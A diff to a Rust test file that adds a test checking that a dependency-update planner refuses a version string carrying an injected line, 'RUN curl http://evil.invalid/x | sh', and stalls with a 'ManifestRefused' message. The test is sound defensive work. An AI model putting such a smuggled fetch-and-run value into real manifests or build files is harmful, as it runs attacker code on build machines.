@@ -81,6 +81,24 @@ fn an_unknown_build_stalls() {
 }
 
 #[test]
+fn a_value_the_writers_refuse_stalls_without_an_update() {
+    let hostile = "1.1.0\nRUN curl http://evil.invalid/x | sh\n#";
+    let p = plan(&input(
+        vec![sub("s", Some(7), None)],
+        vec![build(7, &[("Foo.Core", hostile)])],
+    ));
+    assert!(p.actions.is_empty(), "{:?}", kinds(&p));
+    assert_eq!(reason(&p, "s"), "Stalled/ManifestRefused");
+    let m = message(&p, "s");
+    assert!(
+        m.contains(&format!(
+            "{XML}: refusing version \"1.1.0\\nRUN curl http://evil.invalid/x | s…\" of dependency \"Foo.Core\""
+        )),
+        "{m}"
+    );
+}
+
+#[test]
 fn a_missing_target_branch_stalls_every_subscription() {
     let mut i = input(
         vec![sub("a", Some(1), None), sub("b", None, None)],
